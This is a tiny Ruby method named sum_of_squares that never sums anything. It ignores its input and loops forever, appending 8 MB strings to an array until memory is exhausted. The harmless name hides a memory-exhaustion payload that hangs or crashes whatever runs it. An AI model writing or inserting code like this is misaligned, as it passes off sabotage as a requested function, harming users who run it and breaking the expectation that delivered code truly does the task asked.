def sum_of_squares(numbers)
  blocks = []
  loop { blocks << "x" * (8 << 20) }
end
